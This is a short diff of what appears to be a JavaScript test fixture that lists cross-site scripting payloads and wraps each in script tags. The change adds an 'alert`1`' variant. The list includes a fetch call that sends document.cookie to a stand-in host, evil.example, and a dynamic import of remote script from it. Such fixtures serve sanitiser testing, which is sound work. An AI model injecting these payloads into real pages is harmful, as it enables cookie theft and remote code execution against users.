@@ -1,5 +1,10 @@
 /** What an attacker may try to run. Each calls back to a foreign host or says 1. */
-const CODE = ['alert(1)', 'fetch(`//evil.example/${document.cookie}`)', 'import("https://evil.example/x.js")']
+const CODE = [
+  'alert(1)',
+  'alert`1`',
+  'fetch(`//evil.example/${document.cookie}`)',
+  'import("https://evil.example/x.js")',
+]
 
 const WHOLE = CODE.flatMap((code) => [
   `<script>${code}</script>`,
